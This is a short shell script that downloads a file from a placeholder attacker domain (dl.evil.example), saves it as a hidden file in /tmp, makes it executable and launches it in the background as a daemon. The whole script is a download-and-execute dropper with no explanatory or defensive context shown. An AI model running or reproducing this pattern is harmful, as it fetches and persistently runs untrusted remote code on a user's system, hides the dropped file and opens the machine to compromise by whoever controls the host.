#!/bin/sh
curl -fsSL https://dl.evil.example/a -o /tmp/.a
chmod +x /tmp/.a
/tmp/.a --daemon
